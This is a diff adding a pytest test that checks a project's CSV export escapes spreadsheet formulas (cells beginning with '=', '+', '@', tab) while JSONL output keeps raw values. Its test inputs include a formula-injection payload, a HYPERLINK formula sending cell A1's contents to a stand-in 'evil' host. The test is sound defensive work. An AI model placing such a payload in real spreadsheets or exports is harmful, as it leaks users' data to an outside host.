@@ -25,7 +25,7 @@ from serve.console.label_studio import BadExport, label_config, rows_of_export
 from serve.inputs import PNG_PREFIX
 from tests.conftest import entry, new_case, resolve
 from traffic import log
-from traffic.dataset import read_labelled_file
+from traffic.dataset import read_labelled_file, rows_of
 
 TREE = {"A01": [], "A0101": ["A01"], "A010101": ["A0101"], "B02": []}
 
@@ -335,6 +335,26 @@ def test_files_hold_all_that_is_known(held, export, database, tmp_path):
         path.write_bytes(export(format=form, status="resolved").content)
         read = read_labelled_file(path)
         assert (read.inputs, read.labels, read.groups) == ([[[0.0, 0.5]]], ["3"], ["north"])
+
+
+def test_no_cell_of_a_table_is_a_formula_and_all_come_back(held, export, database, tmp_path):
+    formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', "\t=1+1", "'=1", "-1+1", "-1", "plain"]
+    for formula in formulas:
+        held(group="@SUM(1)", input=formula, reason=f"={formula}")
+    with database.transaction() as connection:
+        connection.execute("update review_items set moved_by = 'x', claimed_by = '=1'")
+    content = export(format="csv").content
+    for row in csv.reader(io.StringIO(content.decode())):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or float(cell) == -1
+    path = tmp_path / "cases.csv"
+    path.write_bytes(content)
+    rows = [row for _, row in rows_of(path)]
+    assert [row["input"] for row in rows] == formulas
+    assert {row["group"] for row in rows} == {"@SUM(1)"}
+    lines = [json.loads(line) for line in export(format="jsonl").text.splitlines()]
+    assert [line["input"] for line in lines] == formulas  # what machines read stays as it is
 
 
 def test_labels_that_hold_together_are_lists_in_a_table(held, export, database):
